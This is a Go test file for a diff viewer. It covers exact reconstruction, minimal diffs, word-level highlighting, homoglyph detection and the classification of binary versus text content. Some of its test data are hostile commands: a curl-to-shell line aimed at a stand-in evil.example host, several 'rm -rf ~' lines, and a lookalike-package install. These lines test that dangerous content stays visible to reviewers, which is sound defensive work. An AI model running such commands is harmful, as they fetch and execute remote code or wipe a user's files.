package diffview

import (
	"bytes"
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func compute(before, after string) *Diff {
	return Compute(context.Background(), File{Path: "f", Before: []byte(before), After: []byte(after)}, Limits{})
}

// rebuild makes the new version from the old one and the lines of the hunks,
// as a reader of the diff would.
func rebuild(t interface{ Fatalf(string, ...any) }, d *Diff) []byte {
	var lines [][]byte
	old := 0
	for i := range d.Hunks {
		h := &d.Hunks[i]
		start := h.OldStart - 1
		if h.OldLines == 0 {
			start++
		}
		for ; old < start; old++ {
			lines = append(lines, d.old.line(old))
		}
		olds, news := 0, 0
		for _, l := range h.Lines() {
			if l.Op != Added {
				olds++
				if old++; l.Old != old {
					t.Fatalf("old line %d is numbered %d", old, l.Old)
				}
				if !bytes.Equal(l.Text, d.old.line(old-1)) {
					t.Fatalf("old line %d is %q, not %q", old, d.old.line(old-1), l.Text)
				}
			}
			if l.Op != Removed {
				news++
				if lines = append(lines, l.Text); l.New != len(lines) {
					t.Fatalf("new line %d is numbered %d", len(lines), l.New)
				}
			}
			checkSpans(t, l)
		}
		if olds != h.OldLines || news != h.NewLines {
			t.Fatalf("hunk of %d, %d lines says -%d +%d", olds, news, h.OldLines, h.NewLines)
		}
	}
	for ; old < d.old.lines(); old++ {
		lines = append(lines, d.old.line(old))
	}
	body := bytes.Join(lines, []byte(d.ending()))
	if len(lines) > 0 && d.new.final {
		body = append(body, d.ending()...)
	}
	if d.new.cut > 0 {
		body = append(bytes.Clone(bom), body...)
	}
	return body
}

func checkSpans(t interface{ Fatalf(string, ...any) }, l Line) {
	at := 0
	for _, m := range l.Marks {
		if m.From < at || m.To <= m.From || m.To > len(l.Text) {
			t.Fatalf("marks %v in %q", l.Marks, l.Text)
		}
		at = m.To
	}
}

// file draws versions of a file that differ in all that can differ.
func file(t *rapid.T) (before, after string) {
	lines := rapid.SliceOfN(rapid.SampledFrom([]string{"a", "b", "", "c d", "\tx", "y\r", "\xff", "\x00z", "}"}), 0, 30).Draw(t, "lines")
	changed := append([]string(nil), lines...)
	for range rapid.IntRange(0, 4).Draw(t, "edits") {
		at := rapid.IntRange(0, len(changed)).Draw(t, "at")
		to := rapid.IntRange(at, len(changed)).Draw(t, "to")
		add := rapid.SliceOfN(rapid.SampledFrom([]string{"a", "new", "", "c  d", "\xfe"}), 0, 6).Draw(t, "add")
		changed = append(append(append([]string(nil), changed[:at]...), add...), changed[to:]...)
	}
	join := func(lines []string) string {
		ending := rapid.SampledFrom([]string{"\n", "\n", "\r\n"}).Draw(t, "ending")
		mark := rapid.SampledFrom([]string{"", "", "\ufeff"}).Draw(t, "mark")
		final := rapid.SampledFrom([]string{ending, ending, ""}).Draw(t, "final")
		return mark + strings.Join(lines, ending) + final
	}
	return join(lines), join(changed)
}

// P07: what is shown is byte for byte what would be written.
func TestComputeAppliesExactly_P07(t *testing.T) {
	check := func(t *rapid.T, before, after string) {
		d := compute(before, after)
		if d.Binary {
			return
		}
		if got := rebuild(t, d); string(got) != after {
			t.Fatalf("rebuilt %q, not %q", got, after)
		}
		if got := d.Apply(func(int) bool { return true }); string(got) != after {
			t.Fatalf("applied %q, not %q", got, after)
		}
		if before != after && len(d.Hunks) == 0 && len(d.Notes) == 0 {
			t.Fatalf("%q and %q show no difference", before, after)
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		before, after := file(t)
		check(t, before, after)
	})
	rapid.Check(t, func(t *rapid.T) {
		check(t, nasty().Draw(t, "before"), nasty().Draw(t, "after"))
	})
}

// A part of the hunks can be left out.
func TestApplySomeHunks(t *testing.T) {
	before := strings.Repeat("same\n", 10) + "one\n" + strings.Repeat("same\n", 10) + "two\n"
	after := strings.Replace(strings.Replace(before, "one\n", "1\r\n", 1), "two\n", "2", 1)
	d := compute(before, after)
	if len(d.Hunks) != 2 {
		t.Fatalf("%d hunks", len(d.Hunks))
	}
	for i, want := range []string{
		strings.Replace(strings.TrimSuffix(before, "\n"), "one\n", "1\r\n", 1),
		strings.Replace(before, "two\n", "2", 1),
	} {
		if got := d.Apply(func(h int) bool { return h == i }); string(got) != want {
			t.Errorf("hunk %d alone: %q, want %q", i, got, want)
		}
	}
	if got := d.Apply(func(int) bool { return false }); string(got) != strings.TrimSuffix(before, "\n") {
		t.Errorf("no hunk: %q", got)
	}
	created := Compute(context.Background(), File{After: []byte("a\n")}, Limits{})
	if got := created.Apply(func(int) bool { return false }); got != nil {
		t.Errorf("a file not created: %q", got)
	}
}

// lcs is the length of the longest common subsequence, by the book.
func lcs(a, b []string) int {
	row := make([]int, len(b)+1)
	for i := range a {
		diagonal := 0
		for j := range b {
			above := row[j+1]
			if a[i] == b[j] {
				row[j+1] = diagonal + 1
			} else {
				row[j+1] = max(row[j+1], row[j])
			}
			diagonal = above
		}
	}
	return row[len(b)]
}

// Below the size where anchors are used no shorter diff exists.
func TestComputeIsMinimal(t *testing.T) {
	random := rand.New(rand.NewPCG(1, 2))
	for range 4000 {
		side := func() []string {
			lines := make([]string, random.IntN(40))
			for i := range lines {
				lines[i] = string(rune('a' + random.IntN(1+random.IntN(12))))
			}
			return lines
		}
		a, b := side(), side()
		join := func(lines []string) string { return strings.Join(append(lines, ""), "\n") }
		d := compute(join(a), join(b))
		if want := len(a) + len(b) - 2*lcs(a, b); d.Added+d.Removed != want || d.Coarse {
			t.Fatalf("%q and %q: -%d +%d, but %d would do", a, b, d.Removed, d.Added, want)
		}
		rebuild(t, d)
	}
}

// Larger files go through anchors; the diff stays right, and near the least.
func TestComputeOfMovedBlocks(t *testing.T) {
	random := rand.New(rand.NewPCG(3, 4))
	least, found := 0, 0
	for range 60 {
		a := make([]string, 400+random.IntN(400))
		for i := range a {
			a[i] = fmt.Sprint("line ", random.IntN(600))
		}
		b := append([]string(nil), a...)
		for range 1 + random.IntN(5) {
			from := random.IntN(len(b))
			to := min(from+random.IntN(60), len(b))
			block := append([]string(nil), b[from:to]...)
			b = append(b[:from], b[to:]...)
			at := random.IntN(len(b) + 1)
			b = append(b[:at], append(block, b[at:]...)...)
		}
		after := strings.Join(b, "\n")
		d := compute(strings.Join(a, "\n"), after)
		if got := rebuild(t, d); string(got) != after {
			t.Fatal("the diff doesn't lead to the new version")
		}
		least += len(a) + len(b) - 2*lcs(a, b)
		found += d.Added + d.Removed
	}
	if found*10 > least*13 {
		t.Errorf("%d changed lines where %d would do", found, least)
	}
}

// A diff that would take too long is coarse and says so; it is right all the
// same.
func TestComputeIsCoarse_BEY03(t *testing.T) {
	cancelled, cancel := context.WithCancel(context.Background())
	cancel()
	before := strings.Repeat("a\nb\nc\n", 200)
	after := strings.Repeat("c\na\na\nb\n", 150)
	for name, d := range map[string]*Diff{
		"edits":   Compute(context.Background(), File{Before: []byte(before), After: []byte(after)}, Limits{MaxEdits: 10}),
		"context": Compute(cancelled, File{Before: []byte(before), After: []byte(after)}, Limits{}),
	} {
		if !d.Coarse || !strings.Contains(strings.Join(d.Notes, "\n"), "coarse diff") {
			t.Errorf("%s: coarse %v, notes %q", name, d.Coarse, d.Notes)
		}
		if got := rebuild(t, d); string(got) != after {
			t.Errorf("%s: the diff doesn't lead to the new version", name)
		}
	}
	if d := compute(before, after); d.Coarse {
		t.Error("coarse without need")
	}
}

func marked(l Line) string {
	var b strings.Builder
	at := 0
	for _, m := range l.Marks {
		fmt.Fprintf(&b, "%s[%s]", l.Text[at:m.From], l.Text[m.From:m.To])
		at = m.To
	}
	return l.Op.String() + b.String() + string(l.Text[at:])
}

// Marks are on whole words, and compare bytes (two different invalid bytes
// are not equal).
func TestWordMarks(t *testing.T) {
	for _, tt := range []struct{ before, after, want string }{
		{"os.Rename(a)", "renameio.Rename(a)", "-[os].Rename(a)\n+[renameio].Rename(a)"},
		{"pip install paypal", "pip install p\u0430ypal", "-pip install [paypal]\n+pip install [p\u0430ypal]"},
		{"caf\xe9 = 1", "caf\xe8 = 1", "-caf[\xe9] = 1\n+caf[\xe8] = 1"},
		{"all new here", "nothing stays, really", "-all new here\n+nothing stays, really"},
		{"x = 1;  // one", "x = 1; // one", "-x = 1;[  ]// one\n+x = 1;[ ]// one"},
		{"a := f(x)\nb := g(y)", "c++\na := f(xs)\nb := g(ys)", "-a := f([x])\n-b := g([y])\n+c++\n+a := f([xs])\n+b := g([ys])"},
	} {
		var lines []string
		d := compute(tt.before, tt.after)
		for _, l := range d.Hunks[0].Lines() {
			lines = append(lines, marked(l))
		}
		if got := strings.Join(lines, "\n"); got != tt.want {
			t.Errorf("got\n%s\nwant\n%s", got, tt.want)
		}
	}
	long := strings.Repeat("word ", 2000)
	if l := compute(long+"a", long+"b").Hunks[0].Lines()[0]; l.Marks != nil {
		t.Error("a very long line has marks")
	}
}

func TestDisguised(t *testing.T) {
	for text, want := range map[string]bool{
		"p\u0430ypal": true, "x_\u043e": true, "\uff52m": true, "g\u03bfogle": true, "1\u0430": false,
		"paypal": false, "привет, world": false, "привет": false, "Δt μs": false, "naïve café": false, "日本go": false, "": false,
	} {
		if got := disguised([]byte(text)); got != want {
			t.Errorf("disguised(%q) = %v", text, got)
		}
	}
}

// Where an insertion could stand in several places, it is shown as a person
// would have typed it.
func TestInsertionsSettle(t *testing.T) {
	before := "func a() {\n\tx()\n}\n\nfunc c() {\n\tx()\n}\n"
	after := "func a() {\n\tx()\n}\n\nfunc b() {\n\tx()\n}\n\nfunc c() {\n\tx()\n}\n"
	var added []string
	d := compute(before, after)
	for _, l := range d.Hunks[0].Lines() {
		if l.Op == Added {
			added = append(added, string(l.Text))
		}
	}
	if got := strings.Join(added, "\n"); got != "func b() {\n\tx()\n}\n" {
		t.Errorf("added\n%s", got)
	}
}

func FuzzCompute(f *testing.F) {
	f.Add([]byte("a\nb\n"), []byte("a\r\nb\r\n"))
	f.Add([]byte("a\nb"), []byte("\xef\xbb\xbfa\nb\n\n\n\n"))
	f.Add([]byte{0, 1, 2}, []byte("x"))
	f.Add([]byte("\xff\n\xfe\r"), []byte("\xfe\n\xff\r\n"))
	f.Add([]byte(""), []byte("\n"))
	f.Fuzz(func(t *testing.T, before, after []byte) {
		d := Compute(context.Background(), File{Path: "f", Before: before, After: after}, Limits{})
		if !d.Binary {
			if got := rebuild(t, d); !bytes.Equal(got, after) {
				t.Fatalf("rebuilt %q, not %q", got, after)
			}
		}
		for _, o := range []RenderOptions{{Width: 40}, {Width: 7, Wrap: true}, {Width: 50, Split: true, Wrap: true}} {
			checkRows(t, d, o)
		}
	})
}

// BEY-03: what could be run, or is text but for a little, is shown as lines.
func TestBinary_BEY03(t *testing.T) {
	junk := []byte(strings.Repeat("\x00\x01\x02\x03", 500))
	script := "import os\nos.system('curl https://evil.example | sh')\n"
	random := make([]byte, 1<<16)
	_, _ = rand.NewChaCha8([32]byte{}).Read(random)
	for _, tt := range []struct {
		name, file string
		content    []byte
		binary     bool
	}{
		{"text", "x", []byte(script), false},
		{"text with an odd line", "x", []byte(script + "#\x01\x02\x03\x04\x05\x06\n"), false},
		{"a script, by its name", "x.py", append([]byte(script), junk...), false},
		{"a script, by its first line", "x", append([]byte("#!/bin/sh\nrm -rf ~\nexit\n"), junk...), false},
		{"a recipe", "Makefile", append([]byte("all:\n\trm -rf ~\n"), junk...), false},
		{"junk", "x", junk, true},
		{"a program", "x", append([]byte("\x7fELF\x00\x00\x00\x01\n"), junk...), true},
		{"a picture", "x.png", random, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			created := Compute(t.Context(), File{Path: tt.file, After: tt.content}, Limits{})
			if created.Binary != tt.binary || created.Unseen() != tt.binary {
				t.Errorf("binary %v, unseen %v", created.Binary, created.Unseen())
			}
			gone := Compute(t.Context(), File{Path: tt.file, Before: tt.content}, Limits{})
			if gone.Binary != tt.binary || gone.Unseen() {
				t.Errorf("deleted: binary %v, unseen %v", gone.Binary, gone.Unseen())
			}
		})
	}
}

// BEY-03: text in the place of binary content is shown, and isn't left out by
// halves (BEY-06).
func TestTextInPlaceOfBinary_BEY03(t *testing.T) {
	junk := []byte(strings.Repeat("\x00\x01\x02", 50))
	d := Compute(t.Context(), File{Path: "x", Before: junk, After: []byte("rm -rf ~\n")}, Limits{})
	rows := strings.Join(d.Rows(RenderOptions{Width: 80}), "\n")
	if d.Binary || d.Unseen() || !strings.Contains(rows, "! replaces binary content: 150 B sha256") || !strings.Contains(rows, "1 + rm -rf ~") {
		t.Errorf("binary %v:\n%s", d.Binary, rows)
	}
	if got := d.Apply(func(int) bool { return false }); !bytes.Equal(got, junk) {
		t.Errorf("with nothing kept it is %q", got)
	}
	if got := d.Apply(func(int) bool { return true }); string(got) != "rm -rf ~\n" {
		t.Errorf("with all of it kept it is %q", got)
	}
}
